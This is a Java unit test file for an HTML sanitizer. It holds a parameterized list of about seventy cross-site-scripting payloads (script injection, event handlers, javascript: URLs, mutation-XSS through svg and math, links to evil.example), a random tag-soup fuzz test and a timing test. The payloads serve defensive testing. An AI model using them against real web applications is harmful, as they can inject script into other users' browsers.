package org.corridorwall.network;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.util.List;
import java.util.Random;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class HostileMarkupTest {
    private static final URI PAGE = URI.create("https://school.example/");

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>ok",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/x>alert(1)</script >",
                "<script>alert(1)",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror\u0000=alert(1)>",
                "<img/src='x'/onerror='alert(1)'>",
                "<p onclick=alert(1) onmouseover='alert(1)'>ok</p>",
                "<p/onclick=alert(1)>ok",
                "<a href=javascript:alert(1)>ok</a>",
                "<a href=' javascript:alert(1)'>ok</a>",
                "<a href='java&#10;script:alert(1)'>ok</a>",
                "<a href='java&Tab;script&colon;alert(1)'>ok</a>",
                "<a href='&#106;&#97;vascript:alert(1)'>ok</a>",
                "<a href='\u0001javascript:alert(1)'>ok</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD4='>ok</a>",
                "<a href='vbscript:msgbox(1)'>ok</a>",
                "<a href='feed:javascript:alert(1)'>ok</a>",
                "<a href='view-source:https://a.example'>ok</a>",
                "<a href='//evil.example\\@school.example/'>ok</a>",
                "<a href='https://school.example@evil.example/'>ok</a>",
                "<a href='https://a.example/\" onclick=\"alert(1)'>ok</a>",
                "<a href='https://a.example/?<script>alert(1)</script>'>ok</a>",
                "<a href=x target=_blank name=top id=desk style=position:fixed class='button is-loud'>ok</a>",
                "<a href=x ping=//evil.example download>ok</a>",
                "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=x><param name=y><embed src=z></object>",
                "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
                "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<select><template><img src=x onerror=alert(1)></template></select>",
                "<textarea></textarea><script>alert(1)</script>",
                "<title></title><img src=x onerror=alert(1)>",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<plaintext><script>alert(1)</script>",
                "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
                "<style>*{background:url(javascript:alert(1))}</style>",
                "<p style='background:url(//evil.example)'>ok</p>",
                "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<base href=javascript:alert(1)//><a href=x>ok</a>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><?php echo 1 ?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                "<body onload=alert(1) class=x><p>ok",
                "<html><frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
                "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio autoplay src=x></audio>",
                "<details open ontoggle=alert(1)><summary>ok</summary></details>",
                "<marquee onstart=alert(1)>ok</marquee><blink>ok</blink>",
                "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
                "<p lang='en\" onclick=\"alert(1)' dir='x'>ok</p>",
                "<span lang=en class='mention\" onclick=\"x'>ok</span>",
                "<a href=x class='mention hashtag evil'>#ok</a>",
                "<corridor-wall src=//evil.example></corridor-wall><x-y onclick=alert(1)>ok</x-y>",
                "<p>ok</p\nonclick=alert(1)>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<<script>alert(1);//<</script>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                "<a href=\"https://a.example/&quot;&gt;&lt;script&gt;\">ok</a>",
                "<b><a href=x><b><a href=y><b>ok",
                "<li><ul><p><ol><li><blockquote><pre><ul>ok",
                "<table><td><a href=javascript:x><tr>ok<table>",
                "<p>ok<![endif]--><!doctype html><p>ok");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingGetsThrough(String attack) {
        var words = Markup.fromHtml(attack, PAGE);
        assertThat(Hostile.wrongs(words.html())).isEmpty();
        assertThat(words.html().replaceAll("\"[^\"]*\"", ""))
                .doesNotContainPattern("<[^>]*(javascript|onclick|onerror|style)");
        assertThat(Markup.fromHtml(words.html(), PAGE).html()).isEqualTo(words.html());
        assertThat(Markup.pictures(attack, PAGE))
                .allSatisfy(media ->
                        assertThat(media.address() + "" + media.target()).matches("(null|https?://[^\"<> ]+)+"));
    }

    @Test
    void soupOfTagsHoldsTheSamePromises() {
        var random = new Random(20261124);
        for (int i = 0; i < 4_000; i++) {
            var soup = soup(random);
            var words = Markup.fromHtml(soup, PAGE);
            assertThat(Hostile.wrongs(words.html())).as(soup).isEmpty();
            assertThat(Markup.fromHtml(words.html(), PAGE).html()).as(soup).isEqualTo(words.html());
            assertThat(letters(words.text()))
                    .as(soup)
                    .isEqualTo(letters(Jsoup.parse(words.html()).wholeText()));
            assertThat(words.text()).as(soup).doesNotContainPattern("[ \\t]\\n|\\n\\n\\n|[ \\n]$|^\\n");
        }
    }

    /** Marks of lists are in the text only. */
    private static String letters(String words) {
        return words.replaceAll("[^a-z]", "");
    }

    private static final String[] TAGS =
            ("p div br b i em strong ul ol li blockquote pre code a span bdi h1 h3 table tr td th"
                            + " script style svg math mtext mglyph template noscript iframe form input select option img video title"
                            + " textarea font x-y body html frameset dl dt dd q button tbody caption foreignObject desc annotation-xml")
                    .split(" ");
    private static final String[] ATTRIBUTES = {
        "href=javascript:x",
        "href='/a?b=c&d'",
        "onclick=x",
        "style=color:red",
        "lang=cy",
        "dir=rtl",
        "class=mention",
        "class='hashtag x'",
        "id=a",
        "src=x",
        "\"",
        "'",
        "href=\"https://b.example/\"",
        "hidden",
        "=",
        "/",
        "lang=\"a b\""
    };
    private static final String[] WORDS = {
        "frog",
        " ",
        "\n",
        "toad ",
        "&amp;",
        "&lt;b>",
        "<",
        ">",
        "&#0;",
        "\u202E",
        "\u0000",
        "<!--",
        "-->",
        "]]>",
        "<![CDATA[",
        "&nbsp;",
        "😀",
        "\"",
        "newt",
        "&notit;",
        "</",
        "<?",
        "<!doctype html>"
    };

    private static String soup(Random random) {
        var soup = new StringBuilder();
        int length = 1 + random.nextInt(40);
        for (int i = 0; i < length; i++) {
            var tag = TAGS[random.nextInt(TAGS.length)];
            switch (random.nextInt(4)) {
                case 0 -> {
                    soup.append('<').append(tag);
                    for (int j = random.nextInt(3); j > 0; j--)
                        soup.append(' ').append(ATTRIBUTES[random.nextInt(ATTRIBUTES.length)]);
                    soup.append('>');
                }
                case 1 -> soup.append("</").append(tag).append('>');
                default -> soup.append(WORDS[random.nextInt(WORDS.length)]);
            }
        }
        return soup.toString();
    }

    @Test
    void endsQuicklyWhateverIsThrownAtIt() {
        for (var part : List.of(
                "<b>",
                "<a href=x>",
                "<div>",
                "<p><b>",
                "<table><td>",
                "<ul><li>",
                "</p>",
                "<svg>",
                "<!--",
                "&",
                "<",
                "<b></p>",
                "<font color=a><b><i>",
                "<a b='",
                "<select><option>",
                "<x y=z >",
                "\u202E",
                "<pre>\n ",
                "<br>",
                "http://a.b/((",
                "<table><b>",
                "<math><mi>",
                "<img srcset='a,'>",
                "<a href=a>…")) {
            var soup = part.repeat(Markup.LONGEST_INPUT / part.length() + 1);
            long before = Cpu.millis();
            Markup.fromHtml(soup, PAGE);
            Markup.fromText(soup);
            Markup.plain(soup);
            Markup.pictures(soup, PAGE);
            assertThat(Cpu.millis() - before).as(part).isLessThan(5_000);
        }
    }
}
